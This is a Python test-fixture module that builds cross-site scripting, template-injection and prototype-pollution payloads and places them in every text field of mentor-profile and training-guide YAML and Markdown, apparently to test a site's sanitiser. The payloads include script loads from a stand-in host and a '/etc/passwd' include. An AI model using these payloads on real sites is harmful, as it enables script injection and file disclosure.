"""Samples that would run script in a careless site, and sources that hold one in every field of text.

Each sample calls ``alert(1)``, or loads something from elsewhere.localhost, if it is put into a page as it is, turned
into a link, or left to a Markdown converter that lets HTML through. Their ways are of common knowledge; the rows are
our own.
"""

# ruff: noqa: E501, RUF001 - rows of a table; the odd letters are the matter
from __future__ import annotations

import json

X = "alert(1)"

_HANDLERS = tuple(
    row.replace("@", X)
    for row in (
        "<img src=x onerror=@>", "<svg onload=@>", "<body onload=@>", "<body onpageshow=@>", "<video src=x onerror=@></video>",
        "<audio src=x onerror=@></audio>", "<video><source src=x onerror=@></video>", "<input autofocus onfocus=@>",
        "<select autofocus onfocus=@></select>", "<textarea autofocus onfocus=@></textarea>", "<button autofocus onfocus=@>a</button>",
        "<a href=# autofocus onfocus=@>a</a>", "<details open ontoggle=@><summary>a</summary></details>", "<marquee onstart=@>a</marquee>",
        "<iframe onload=@></iframe>", "<object data=x onerror=@></object>", "<embed src=x onload=@>", "<script src=x onerror=@></script>",
        "<link rel=stylesheet href=x onerror=@>", "<style onload=@>a{}</style>", "<p onmouseover=@>a</p>", "<p onpointerenter=@>a</p>",
        "<p onclick=@>a</p>", "<button onclick=@>a</button>", "<div tabindex=1 onfocus=@>a</div>", "<div contenteditable onfocus=@>a</div>",
        "<form onsubmit=@><button>a</button></form>", "<input type=image src=x onerror=@>", "<img srcset=x onerror=@>",
        "<picture><source srcset=x><img onerror=@></picture>", "<svg><animate onbegin=@ attributeName=x dur=1s></svg>",
        "<svg><set onbegin=@ attributeName=x dur=1s></svg>", "<svg><image href=x onerror=@></svg>", "<svg><a onclick=@><text y=20>a</text></a></svg>",
        "<math onclick=@><mi>a</mi></math>", "<dialog open onclick=@>a</dialog>", "<a-b onclick=@ tabindex=1>a</a-b>", "<frameset onload=@>",
        "<table onclick=@><tr><td>a</table>", "<label onclick=@>a</label>", "<details ontoggle=@ open>", "<meter onmouseover=@>a</meter>",
        "<img src=x onerror=@ alt='a'>", "<h2 onclick=@>a</h2>", "<li onclick=@>a</li>", "<style>@keyframes a{}</style><b style='animation:a 1s' onanimationstart=@>a</b>",
        "<b style='transition:color 1ms' onmouseover=@>a</b>", "<bdi onclick=@>a</bdi>", "<time onclick=@>a</time>", "<summary onclick=@>a</summary>",
    )
)  # fmt: skip
_WRITINGS = tuple(
    row.replace("@", X)
    for row in (
        "<IMG SRC=x ONERROR=@>", "<iMg sRc=x oNeRrOr=@>", "<img/src=x/onerror=@>", "<img\nsrc=x\nonerror=@>", "<img\tsrc=x\tonerror=@>",
        "<img\x0csrc=x\x0conerror=@>", "<img src=x onerror = @>", "<img src=x onerror\n=\n@>", "<img src=x onerror='@'>", '<img src=x onerror="@">',
        '<img src="x"onerror="@">', "<img src='x'onerror='@'>", "<img src=x onerror=@//>", "<img src=x onerror=@ <b>", "<img src=x onerror=@",
        "<<img src=x onerror=@>", "<img src=x:x onerror=@>", '<img """><img src=x onerror=@>">', "<img src=x onerror=&#97;lert(1)>",
        "<img src=x onerror=&#x61;lert(1)>", "<img src=x onerror=alert&lpar;1&rpar;>", "<img src=x onerror=alert`1`>", "<img src=x onerror=window['al'+'ert'](1)>",
        "<img src=x onerror=top.alert(1)>", "<img src=x onerror=(0,alert)(1)>", "<img src=x onerror=\\u0061lert(1)>", "<x/onclick=@>a", "<x onclick=@>a</x>",
        "<svg/onload=@>", "<svg\u00a0onload=@>", "<svg onload=@//", "<svg><script>@</script></svg>", "<svg><script>alert&#40;1)</script></svg>",
        "<p title='a'onclick=@>a", "</p><img src=x onerror=@>", "</div></main><img src=x onerror=@>", "<img src=`x` onerror=@>", "<!--><img src=x onerror=@>-->",
        "<!--><img src=x onerror=@>", "<!-- --!><img src=x onerror=@>", "<!-<img src=x onerror=@>", "<![CDATA[<img src=x onerror=@>]]>", "<?x <img src=x onerror=@>?>",
        "<!doctype <img src=x onerror=@>>", "<a<img src=x onerror=@>>", "&lt;img src=x onerror=@&gt;", "&#60;img src=x onerror=@&#62;", "&amp;lt;img src=x onerror=@&amp;gt;",
        "\\<img src=x onerror=@>", "\\\\<img src=x onerror=@>", "＜img src=x onerror=@＞", "%3Cimg src=x onerror=@%3E", "\\u003cimg src=x onerror=@\\u003e",
        "\\x3cimg src=x onerror=@\\x3e", "<img src=x one\u200drror=@>", "<i\u00admg src=x onerror=@>", "<img src=x onerror=@>\u202e",
    )
)  # fmt: skip
_SCRIPTS = tuple(
    row.replace("@", X)
    for row in (
        "<script>@</script>", "<SCRIPT>@</SCRIPT>", "<script >@</script >", "<script\n>@</script\n>", "<script/x>@</script>", "<script>@//", "<script>@</script",
        "<script type=module>@</script>", "<script type='text/javascript'>@</script>", "<script><!--\n@\n//--></script>", "<scr<script>ipt>@</scr</script>ipt>",
        "<script src=https://elsewhere.localhost/x.js></script>", "<script src=//elsewhere.localhost/x.js></script>", "<script src=data:,@></script>",
        "<script>@<b></script>", "</script><script>@</script>", "</script ><script>@</script>", "</SCRIPT><script>@</script>", "--></script><script>@</script>",
        "]]></script><script>@</script>", "*/@/*", "';@;//", '";@;//', "\\';@;//", "\\\";@;//", "`;@;//", "${@}", "</script><!--<script>@</script>",
        "<!--<script>@</script>-->", "<!-- <script>", "<script>/*", "\u2028@//", "\u2029@//", '"}</script><script>@</script>', "{\"@type\":\"</script><script>@</script>\"}",
        "<noscript><p title='</noscript><img src=x onerror=@>'></noscript>", "<template><script>@</script></template>", "<svg><script href=data:,@></script></svg>",
    )
)  # fmt: skip
_MUTATIONS = tuple(
    row.replace("@", X)
    for row in (
        "<math><mtext><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mtext></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=@>'>", "<svg><style><img src=x onerror=@></style></svg>", "<svg><title><style><img src=x onerror=@>",
        "<svg><desc><style></desc><img src=x onerror=@>", "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>", "<math><annotation-xml encoding='text/html'><img src=x onerror=@>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>", "<table><tr><img src=x onerror=@>", "<select><option><img src=x onerror=@>",
        "<select><style></select><img src=x onerror=@>", "<textarea></textarea><img src=x onerror=@>", "<title></title><img src=x onerror=@>", "</title><img src=x onerror=@>",
        "</textarea><img src=x onerror=@>", "</style><img src=x onerror=@>", "<xmp></xmp><img src=x onerror=@>", "<noembed></noembed><img src=x onerror=@>",
        "<noframes></noframes><img src=x onerror=@>", "<plaintext><img src=x onerror=@>", "<listing>&lt;img src=x onerror=@&gt;</listing>", "<template><img src=x onerror=@></template>",
        "<div><template shadowrootmode=open><img src=x onerror=@></template></div>", "<iframe srcdoc='<img src=x onerror=parent.alert(1)>'></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>", "<svg><use href='data:image/svg+xml,<svg id=x onload=@></svg>#x'></svg>",
        "<a id=x><a id=x name=y href='javascript:@'>a</a>", "<p><svg><style><!--</style><img src=x onerror=@>-->", "<b><svg><p title='</svg><img src=x onerror=@>'>",
        "<image src=x onerror=@>", "<isindex type=image src=x onerror=@>", "<math><style><img src=x onerror=@></style></math>", "<option><style></option></select><img src=x onerror=@></style>",
    )
)  # fmt: skip
_LOADING = tuple(
    row.replace("@", "https://elsewhere.localhost/x")
    for row in (
        "<img src=@.png>", "<img src=//elsewhere.localhost/x.png>", "<img srcset='@.png 1x'>", "<link rel=stylesheet href=@.css>", "<link rel=preload as=image href=@.png>",
        "<iframe src=@.html></iframe>", "<object data=@.svg></object>", "<embed src=@.svg>", "<video poster=@.png></video>", "<audio src=@.mp3 autoplay></audio>",
        "<style>@import '@.css';</style>", "<p style='background:url(@.png)'>a</p>", "<svg><image href='@.png'/></svg>", "<input type=image src=@.png>",
        "<meta http-equiv=refresh content='0;url=@.html'>", "<base href=https://elsewhere.localhost/>", "<body background=@.png>", "<table background=@.png>",
        "![a](@.png)", "![a][1]\n\n[1]: @.png", "![a](//elsewhere.localhost/x.png)", "![a](https:elsewhere.localhost/x.png)", "![a](\\\\elsewhere.localhost\\x.png)",
        "a{background:url(@.png)}", "url(@.png)", "[![a](@.png)](@)",
    )
)  # fmt: skip
ADDRESSES = tuple(
    row.replace("@", X)
    for row in (
        "javascript:@", "JaVaScRiPt:@", " javascript:@", "\x01javascript:@", "java\tscript:@", "java\nscript:@", "java\rscript:@", "javascript\t:@", "javascript:\n@", "javascript://%0a@",
        "javascript://a.example/%0a@", "&#106;avascript:@", "&#x6a;avascript:@", "&#0000106avascript:@", "javascript&colon;@", "javascript&#58;@", "jav&#x09;ascript:@", "jav&Tab;ascript:@",
        "jav&NewLine;ascript:@", "%6aavascript:@", "javascript%3a@", "\\javascript:@", "javascript\\:@", "data:text/html,<script>@</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=@>", "vbscript:@", "livescript:@", "feed:javascript:@", "view-source:javascript:@", "blob:@", "filesystem:@", "//elsewhere.localhost/%0a@", "javascript:@//http://a.example",
        "https://a.example/' onclick='@", 'https://a.example/" onclick="@', "https://a.example/\"><img src=x onerror=@>", "mailto:a@b.example?x=<img src=x onerror=@>", "\ufeffjavascript:@", "\u200bjavascript:@",
    )
)  # fmt: skip
_FORMS = ("[a](@)", "[a](<@>)", "<@>", "[a][b]\n\n[b]: @")
_LINKS = tuple(
    form.replace("@", address)
    for number, address in enumerate(ADDRESSES)
    for form in ("<a href='@'>a</a>", *(() if "\n" in address else (_FORMS[number % 4],)))
)
_BREAKOUTS = tuple(
    row.replace("@", X)
    for row in (
        "\"><img src=x onerror=@>", "'><img src=x onerror=@>", '" onmouseover=@ x="', "' onmouseover=@ x='", '" autofocus onfocus=@ x="', "a onmouseover=@", '"onclick=@ ', "'onclick=@ ",
        '"/><svg onload=@>', "`onmouseover=@ ", '"><script>@</script>', "&quot;><img src=x onerror=@>", "&#34; onmouseover=@ x=&#34;", '\\" onmouseover=@ x=\\"', '" style="animation:x" onanimationstart="@',
        "a\x0conmouseover=@", '"><a href="javascript:@">a</a>', '" href="javascript:@', '" formaction="javascript:@', '" srcdoc="<script>@</script>', '" ping="https://elsewhere.localhost/x', "]]>\"><img src=x onerror=@>",
    )
)  # fmt: skip
_MARKDOWN = tuple(
    row.replace("@", X)
    for row in (
        "a\n{: onclick=@ }", "a {: onmouseover=@ }\n", "# a {: onclick=@ }", "*a*{: onclick=@ }", "[a](b){: href=javascript:@ }", "![a](b.png){: onerror=@ }", "![a](b.png){: src=x onerror=@ }",
        "`a`{: onclick=@ }", "- a\n{: onclick=@ }", "a\n{: style=background:url(https://elsewhere.localhost/x) }", "a\n{: id=x onclick=@ }", "| a {: onclick=@ } |\n|---|\n| b |",
        "[^1]\n\n[^1]: <img src=x onerror=@>", "[^\"><img src=x onerror=@>]\n\n[^\"><img src=x onerror=@>]: b", "!!! note \"<img src=x onerror=@>\"\n    a", "!!! \"onclick=@ \"\n    a",
        "!!! note onclick=@\n    a", "```\"><img src=x onerror=@>\na\n```", "``` { onclick=@ }\na\n```", "```html\n<img src=x onerror=@>\n```", "~~~ {.a onclick=@}\na\n~~~", "`<img src=x onerror=@>`",
        "    <img src=x onerror=@>", "a\n: <img src=x onerror=@>", "<img src=x onerror=@>\n: b", "- [ ] <img src=x onerror=@>", "- [x] a\"><img src=x onerror=@>", "[a](b \"\" onclick=@ \")", "[a](b \"\\\" onclick=@ \\\"\")",
        "[a](b 'x' onclick='@')", "![\" onerror=@ \"](b.png)", "![a\" onerror=\"@](b.png)", "[a]: javascript:@ \"x\"\n[a]", "[javascript:@]", "[a](#\" onclick=\"@)", "[<img src=x onerror=@>](b)", "**<img src=x onerror=@>**",
        "## <img src=x onerror=@>", "# a <!-- --><img src=x onerror=@>", "<div markdown=1 onclick=@>a</div>", "<div>\n\n<img src=x onerror=@>\n\n</div>", "a<br onclick=@>", "<http://a.example/\"onclick=\"@>",
        "<a@b.example?\"onclick=\"@>", "klzzwxh:0000", "wzxhzdk:0", "[a](ref:0)", "<ref:0>", "&lt;&#105;mg src=x onerror=@>", "[[<img src=x onerror=@>]]", "*[x]: \" onclick=@ \"\nx", "$$<img src=x onerror=@>$$",
        "--- <img src=x onerror=@> ---", "> <img src=x onerror=@>", "1. <img src=x onerror=@>", "<details open ontoggle=@>\n\na\n\n</details>", "```mentors\nopen: yes\n```\n<img src=x onerror=@>",
    )
)  # fmt: skip
_TEMPLATES = tuple(
    row.replace("@", X)
    for row in (
        "{{ '<img src=x onerror=@>'|safe }}", "{{ 7*191 }}", "{% include '/etc/passwd' %}", "{% raw %}<script>@</script>{% endraw %}", "{# @ #}", "{{ self }}", "{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__ }}",
        "#{@}", "<%= @ %>", "{{constructor.constructor('@')()}}", "{name}", "{constructor}", "{__proto__}", "$&<img src=x onerror=@>", "$'<img src=x onerror=@>", "$`<img src=x onerror=@>", "%s<img src=x onerror=@>",
        "__proto__", "constructor", "toString", "hasOwnProperty", "__proto__.polluted=1", "constructor[prototype][polluted]=1", "valueOf", "(((((", "[a-z", "\\", "*+?", "\u202e<img src=x onerror=@>",
    )
)  # fmt: skip

SAMPLES = tuple(
    dict.fromkeys(
        (*_HANDLERS, *_WRITINGS, *_SCRIPTS, *_MUTATIONS, *_LOADING, *_LINKS, *_BREAKOUTS, *_MARKDOWN, *_TEMPLATES)
    )
)

PROFILE_FIELDS = {
    "name": 120, "pronunciation": 120, "pronouns": 40, "credentials": 20, "title": 160, "department": 120, "not_for": 400, "frequency": 120,
    "communities_note": 400, "approach": 800, "expectations": 800, "first_contact": 160, "recognition": 120, "website": 400, "bio": 6000, "motto": 400, "photo": 120,
}  # fmt: skip
"""Fields of a profile that take text, and how much; ``motto`` is the program's own, ``photo`` its words and credit."""
GUIDE_FIELDS = {"title": 120, "summary": 240, "owner": 120, "outcomes": 300, "sources": 300, "url": 400, "body": 90_000}
_NAMED = {"first_contact": "{how: @}", "recognition": "[{title: @, year: 2025}]", "website": "@", "credentials": "[@]",
          "outcomes": "[@]", "sources": "[{title: @}]", "url": "[{title: a, url: @}]",
          "photo": "{file: photos/p.jpg, alt: @, credit: @}"}  # fmt: skip
_KEYS = {"website": "links: {website: @}", "url": "sources: @"}


def written(text: str) -> str:
    """Return the text as YAML would write it in quotation marks."""
    return json.dumps(text, ensure_ascii=True)


def lines_of(values: dict[str, str]) -> str:
    """Return the lines of YAML in which each field holds its text."""
    lines = []
    for field, text in values.items():
        value = _NAMED.get(field, "@").replace("@", written(text))
        lines.append(_KEYS[field].replace("@", value) if field in _KEYS else f"{field}: {value}")
    return "".join(line + "\n" for line in lines)


def profile_of(values: dict[str, str]) -> str:
    """Return a published profile that holds these texts, and shows its communities and photo."""
    shown = {"name": "Cleo Marsh", **values}
    return (
        lines_of(shown) + "communities: [rural background]\nconsent: {date: 2026-09-01, show: [communities, photo]}\n"
    )


def guide_of(values: dict[str, str]) -> str:
    """Return a training guide that holds these texts; its body holds the sample in every kind of block."""
    shown = {"title": "A guide", "summary": "A sentence.", **values}
    body = shown.pop("body", "Text.\n")
    return f"---\n{lines_of(shown)}section: training\n---\n{body}\n"


def bodies_of(sample: str) -> str:
    """Return Markdown that holds the sample by itself and, if it is one line, in every kind of block."""
    if "\n" in sample:
        return sample
    kinds = (
        "{}",
        "## {}",
        "- {}",
        "> {}",
        "*{}*",
        "`{}`",
        "[{}](https://a.example)",
        "| {} |\n|---|\n| {} |",
        "    {}",
    )
    return "\n\n".join(kind.replace("{}", sample) for kind in kinds)
